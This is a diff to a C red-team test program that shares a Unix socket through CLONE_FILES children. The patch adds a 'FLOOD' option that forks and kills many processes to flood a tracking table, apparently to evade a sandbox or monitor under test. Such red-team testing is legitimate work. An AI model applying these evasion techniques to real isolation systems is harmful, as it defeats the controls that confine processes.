@@ -1,6 +1,8 @@
 // Red team: a socket shared through a CLONE_FILES child, with the descriptor-table count balanced
 // by threads that unshare(CLONE_FILES) (CLONE_THREAD without CLONE_FILES).
-//   rt_unix_share LINK TABLE NTHREADS NCHILD [leader]
+//   rt_unix_share LINK TABLE NTHREADS NCHILD [leader|none] [FLOOD]
+// FLOOD: first, that many other session processes each make a CLONE_FILES child and are killed
+// (the note table flooded).
 // NCHILD CLONE_FILES children made before the connect; with one, it makes the second sender
 // itself (CLONE_FILES again) once the connecting process is dead.  "leader": the main thread exits
 // (pthread_exit: a zombie leader still counts in nr_threads, no longer in files->count) and
@@ -136,6 +138,24 @@ static int go(int argc, char **argv)
         }
     }
     usleep(200000);
+    int flood = argc > 6 ? atoi(argv[6]) : 0;
+    pid_t *w = calloc(flood + 1, sizeof(pid_t));
+    for (int i = 0; i < flood; i++) {
+        w[i] = fork();
+        if (w[i] == 0) {
+            long c = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
+            if (c == 0)
+                _exit(0);
+            waitpid(c, 0, 0);
+            for (;;)
+                pause();
+        }
+    }
+    for (int i = 0; i < flood; i++)
+        kill(w[i], SIGKILL);
+    for (int i = 0; i < flood; i++)
+        waitpid(w[i], 0, 0);
+    fprintf(stderr, "flooded %d\n", flood);
     struct sockaddr_un sa = {.sun_family = AF_UNIX};
     strncpy(sa.sun_path, link, sizeof sa.sun_path - 1);
     if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) {
